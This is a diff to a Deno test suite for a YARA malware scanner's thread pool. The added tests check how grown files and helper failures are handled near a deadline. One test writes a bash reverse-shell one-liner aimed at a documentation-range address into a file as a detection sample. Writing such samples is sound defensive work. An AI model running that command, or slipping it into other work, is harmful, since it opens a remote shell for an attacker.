@@ -158,12 +158,12 @@ class PoolBench implements Disposable {
   }
 
   /** Runs one batch; `before` runs before each scan on this thread. */
-  run(batch: Indexed[], before?: (f: Indexed) => Promise<void>): Promise<boolean> {
+  run(batch: Indexed[], before?: (f: Indexed) => Promise<void>, budgetMs = 60_000): Promise<boolean> {
     return this.pool.run(batch, async (f) => {
       await before?.(f);
       this.here.add(f.i);
       this.scan.put(f.i, f.e, await scanWalkedFile(this.ctx, f.e, this.scanner, 8 << 20, 10, this.buffer));
-    }, performance.now() + 60_000);
+    }, performance.now() + budgetMs);
   }
 
   [Symbol.dispose](): void {
@@ -281,5 +281,69 @@ Deno.test(needs(["libyara", "fuse"], {
       warnings.some((d) => /1 file\(s\) taken by a helper thread that did not answer in time/.test(d)),
       warnings.join("\n"),
     );
+  },
+}));
+
+/** A batch whose first file the helper takes: this thread is busy with a large file (`slowMs`) first. */
+function helperFirst(b: PoolBench, first: Indexed, files: string[], slowMs: number) {
+  const batch: Indexed[] = [
+    first,
+    b.entry(files.find((p) => p.endsWith("big0.bin"))!),
+    ...files.filter((p) => !p.endsWith(".bin")).map((p) => b.entry(p)),
+  ];
+  const before = async (f: Indexed) => {
+    if (f.e.size > HELPER_MAX_FILE) await new Promise((r) => setTimeout(r, slowMs));
+  };
+  return { batch, before };
+}
+
+Deno.test(needs(["libyara"], {
+  name:
+    "yara threads: a file that grew past the helpers' 4 MiB (not the scan's cap) since the walk is scanned here",
+  fn: async () => {
+    using t = tree(40);
+    const files = treeFiles(`${t.path}/tree`);
+    const grown = `${t.path}/tree/grown.log`;
+    Deno.writeTextFileSync(grown, "small at walk time\n");
+    using b = new PoolBench(1);
+    const { batch, before } = helperFirst(b, b.entry(grown), files, 300);
+    // It grows to 5 MiB, with a match at its end, after the walk and before any thread reads it.
+    Deno.writeFileSync(grown, new Uint8Array(5 << 20).fill(0x2e), { append: true });
+    Deno.writeTextFileSync(grown, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", { append: true });
+    b.pool.start(b.lib, b.set);
+    await b.pool.whenReady(30_000);
+    assert.equal(await b.run(batch, before), false);
+    const subjects = [...b.scan.take()].map((d) => d.subject);
+    assert.equal(b.scan.scanned, batch.length, "scanned, not reported as over the cap");
+    assert.ok(subjects.includes(`reverse_shell:${grown}`), subjects.join("\n"));
+    assert.ok(b.here.has(batch[0].i), "scanned on this thread");
+    b.scan.finish(8);
+    assert.deepEqual(b.ctx.warnings.map((w) => w.detail).filter((d) => String(d).includes("over")), []);
+    assert.equal(await b.pool.end(), true);
+  },
+}));
+
+Deno.test(needs(["libyara"], {
+  name: "yara threads: when a helper fails after the deadline its file is left, and the scan stops there",
+  fn: async () => {
+    using t = tree(40);
+    const files = treeFiles(`${t.path}/tree`);
+    using b = new PoolBench(1, { failAfter: 0 });
+    // Two files: the helper takes the small one and fails; this thread's large one outlasts the 300 ms left, so
+    // every file was taken in time but the helper's cannot be scanned here any more.
+    const { batch, before } = helperFirst(
+      b,
+      b.entry(files.find((p) => p.endsWith("f0000.txt"))!),
+      files,
+      600,
+    );
+    b.pool.start(b.lib, b.set);
+    await b.pool.whenReady(30_000);
+    assert.equal(await b.run(batch.slice(0, 2), before, 300), true, "out of time with a file left");
+    [...b.scan.take()];
+    assert.equal(b.scan.scanned, 0, "nothing after the file left is taken");
+    assert.ok(b.scan.inFlight > 0);
+    assert.match(b.pool.failure ?? "", /failing as the test asked/);
+    assert.equal(await b.pool.end(), true);
   },
 }));
